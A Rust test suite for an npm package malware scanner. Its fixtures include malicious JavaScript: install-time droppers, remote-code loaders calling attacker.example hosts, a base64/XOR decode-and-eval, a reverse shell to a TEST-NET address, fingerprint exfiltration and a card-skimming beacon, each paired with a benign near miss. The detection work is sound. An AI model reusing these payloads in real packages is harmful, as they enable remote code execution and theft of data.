//! How the JavaScript walk follows data: responses through `await` and helper
//! functions, sockets into commands, modules loaded through wrappers, decoders of more
//! than one statement, bare host names. Each shape has a fixture written the way
//! malware of its technique is written and a near miss from honest code. Reserved
//! names and TEST-NET addresses only.

mod common;

use common::Fixture;
use dsca_model::Severity;
use serde_json::json;

fn with_main(files: &[(&str, &str)]) -> Fixture {
    let mut fixture =
        Fixture::tarball(json!({"name": "demo-pkg", "version": "1.0.0", "main": "index.js"}));
    for (path, text) in files {
        fixture = fixture.file(path, text.as_bytes());
    }
    fixture
}

fn strongest(fixture: &Fixture, rule: &str) -> Option<Severity> {
    fixture.code_findings(rule).iter().map(|f| f.severity).max()
}

// Download and execute (DSCA802) written with async/await.

const AWAIT_DROPPER: &str = r#"import { writeFile, chmod } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { spawn } from 'node:child_process';
const base = Buffer.from('aHR0cDovLzIwMy4wLjExMy45L3Mv', 'base64').toString();
async function run() {
  const res = await fetch(base + 'lin.sh');
  const file = join(tmpdir(), 'cache-' + process.pid + '.sh');
  await writeFile(file, Buffer.from(await res.arrayBuffer()));
  await chmod(file, 0o755);
  spawn('/bin/sh', [file], { detached: true, stdio: 'ignore' }).unref();
}
run();
"#;

#[test]
fn an_awaited_download_written_to_tmp_and_run_at_install_is_high() {
    let fixture = Fixture::with_postinstall("node setup.mjs", &[("setup.mjs", AWAIT_DROPPER)]);
    assert_eq!(strongest(&fixture, "DSCA802"), Some(Severity::High));
}

#[test]
fn an_installer_fetching_its_binary_from_its_vendor_into_its_folder_is_medium() {
    // The esbuild shape: a named vendor host, the package's own folder, a version check.
    let installer = r#"const fs = require('fs');
const path = require('path');
const { execFileSync } = require('child_process');
async function install() {
  const res = await fetch('https://registry.vendor.example/@demo/linux-x64/-/linux-x64-1.0.0.tgz');
  const bin = path.join(__dirname, 'bin', 'demo');
  fs.writeFileSync(bin, Buffer.from(await res.arrayBuffer()));
  fs.chmodSync(bin, 0o755);
  execFileSync(bin, ['--version']);
}
install();
"#;
    let fixture = Fixture::with_postinstall("node install.js", &[("install.js", installer)]);
    assert!(strongest(&fixture, "DSCA802") <= Some(Severity::Medium));
}

// Helpers that fetch or decode carry their data to the caller.

#[test]
fn code_fetched_by_a_helper_function_and_evaluated_is_critical() {
    let loader = r#"const https = require('https');
function fetchText(url, cb) {
  https.get(url, (res) => { let b = ''; res.on('data', (d) => (b += d)); res.on('end', () => cb(null, b)); });
}
fetchText('https://cfg.attacker.example/p', (err, code) => {
  if (!err) new Function('require', code)(require);
});
"#;
    let fixture = with_main(&[
        ("index.js", "require('./lib/pool');\n"),
        ("lib/pool.js", loader),
    ]);
    assert_eq!(strongest(&fixture, "DSCA802"), Some(Severity::Critical));
}

#[test]
fn a_base64_and_xor_decoder_feeding_new_function_is_decode_eval() {
    let code = r#"const _k = 'k3y';
function _u(b, k) {
  const buf = Buffer.from(b, 'base64');
  for (let i = 0; i < buf.length; i++) buf[i] ^= k.charCodeAt(i % k.length);
  return buf.toString('utf8');
}
const f = new Function('require', _u('AAECAwQF', _k));
f(require);
"#;
    let fixture = Fixture::with_postinstall("node index.js", &[("index.js", code)]);
    assert_eq!(strongest(&fixture, "DSCA803"), Some(Severity::Critical));
}

#[test]
fn a_template_engine_compiling_with_new_function_is_not_decode_eval() {
    let code = r#"function compile(tpl) {
  const body = 'return `' + tpl.replace(/`/g, '\\`') + '`;';
  return new Function('data', body);
}
module.exports = compile;
"#;
    let fixture = with_main(&[("index.js", code)]);
    assert_eq!(strongest(&fixture, "DSCA803"), None);
}

// Sockets into commands (DSCA804).

#[test]
fn commands_received_on_a_socket_loaded_from_main_are_critical() {
    let code = r#"const m = (s) => require(s.split('').reverse().join(''));
const n = m('ten');
const c = m('ssecorp_dlihc');
const client = n.connect({ host: '198.51.100.14', port: 443 });
client.on('data', (d) => {
  c.exec(d.toString().trim(), (err, out) => client.write(String(out)));
});
"#;
    let fixture = with_main(&[
        ("index.js", "require('./lib/compat');\n"),
        ("lib/compat.js", code),
    ]);
    assert_eq!(strongest(&fixture, "DSCA804"), Some(Severity::Critical));
}

#[test]
fn a_platform_chosen_shell_piped_to_a_socket_is_a_reverse_shell() {
    let code = r#"var net = require('net'), cp = require('child_process');
var sh = cp.spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', []);
var client = new net.Socket();
client.connect(9001, '203.0.113.66', function () {
  client.pipe(sh.stdin); sh.stdout.pipe(client); sh.stderr.pipe(client);
});
"#;
    let fixture = with_main(&[("index.js", code)]);
    assert_eq!(strongest(&fixture, "DSCA804"), Some(Severity::Critical));
}

#[test]
fn a_tcp_client_that_logs_what_it_receives_is_no_reverse_shell() {
    let code = r#"const net = require('net');
const { execSync } = require('child_process');
const version = execSync('git --version').toString();
const s = net.connect(6379, 'localhost');
s.on('data', (d) => { console.log('reply', d.toString(), version); });
module.exports = s;
"#;
    let fixture = with_main(&[("index.js", code)]);
    assert_eq!(strongest(&fixture, "DSCA804"), None);
}

// A detached child of a hook runs at install time too.

#[test]
fn a_file_a_hook_starts_with_process_exec_path_runs_at_install() {
    let starter = r#"const { spawn } = require('child_process');
const path = require('path');
spawn(process.execPath, [path.join(__dirname, 'payload.js')], { detached: true, stdio: 'ignore' }).unref();
"#;
    let payload = r#"const net = require('net'); const os = require('os');
const s = new net.Socket();
s.connect(4444, '198.51.100.14', () => s.write(JSON.stringify({ h: os.hostname(), u: os.userInfo().username, i: os.networkInterfaces() })));
"#;
    let fixture = Fixture::with_postinstall(
        "node lib/install.js",
        &[("lib/install.js", starter), ("lib/payload.js", payload)],
    );
    assert_eq!(strongest(&fixture, "DSCA801"), Some(Severity::Critical));
}

// Host fingerprints and bare host names (DSCA801, DSCA806).

#[test]
fn a_fingerprint_sent_to_a_bare_oast_host_name_at_install_is_critical() {
    let code = r#"const https = require('https'); const os = require('os');
const data = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, c: process.cwd() });
const req = https.request({ hostname: 'x7kq2m9d.oast.fun', path: '/', method: 'POST' });
req.write(data); req.end();
"#;
    let fixture = Fixture::with_postinstall("node index.js", &[("index.js", code)]);
    assert_eq!(strongest(&fixture, "DSCA801"), Some(Severity::Critical));
    assert!(strongest(&fixture, "DSCA806") >= Some(Severity::Medium));
}

#[test]
fn an_installer_choosing_a_binary_by_platform_sends_no_fingerprint() {
    let code = r#"const https = require('https'); const os = require('os');
const url = `https://downloads.vendor.example/v1/demo-${os.platform()}-${os.arch()}.tgz`;
https.get(url, (res) => res.pipe(require('fs').createWriteStream('demo.tgz')));
"#;
    let fixture = Fixture::with_postinstall("node index.js", &[("index.js", code)]);
    assert_eq!(strongest(&fixture, "DSCA801"), None);
}

#[test]
fn files_loaded_by_inline_node_code_of_a_hook_run_at_install() {
    let code = r#"const https = require('https'); const os = require('os');
https.get('https://c.attacker.example/?h=' + os.hostname() + '&u=' + os.userInfo().username);
"#;
    let fixture = Fixture::with_postinstall(
        "node -e \"require('./lib/check')\"",
        &[("lib/check.js", code)],
    );
    assert_eq!(strongest(&fixture, "DSCA801"), Some(Severity::Critical));
}

// Where data goes (DSCA806): an address hidden in an encoded string.

#[test]
fn a_beacon_to_an_address_hidden_in_base64_names_a_destination() {
    // "https://collect.attacker.example/c" in base64.
    let code = r#"const u = atob('aHR0cHM6Ly9jb2xsZWN0LmF0dGFja2VyLmV4YW1wbGUvYw==');
document.addEventListener('submit', (e) => {
  const d = new FormData(e.target);
  navigator.sendBeacon(u, JSON.stringify({ n: d.get('cardnumber'), c: d.get('cvc') }));
}, true);
"#;
    let fixture = with_main(&[("index.js", code)]);
    assert_eq!(strongest(&fixture, "DSCA806"), Some(Severity::Medium));
}

#[test]
fn a_beacon_to_a_plain_analytics_address_names_no_destination() {
    let code = r#"const u = 'https://analytics.vendor.example/collect';
window.addEventListener('pagehide', () => navigator.sendBeacon(u, JSON.stringify({ p: location.pathname })));
"#;
    let fixture = with_main(&[("index.js", code)]);
    assert_eq!(strongest(&fixture, "DSCA806"), None);
}

#[test]
fn a_helper_declared_after_its_caller_still_carries_the_download() {
    let loader = r#"main();
function main() {
  getConfig('https://cfg.attacker.example/p', (err, code) => { if (!err) eval(code); });
}
function getConfig(url, cb) {
  require('https').get(url, (res) => { let b = ''; res.on('data', (d) => (b += d)); res.on('end', () => cb(null, b)); });
}
"#;
    let fixture = Fixture::with_postinstall("node setup.js", &[("setup.js", loader)]);
    assert_eq!(strongest(&fixture, "DSCA802"), Some(Severity::Critical));
}
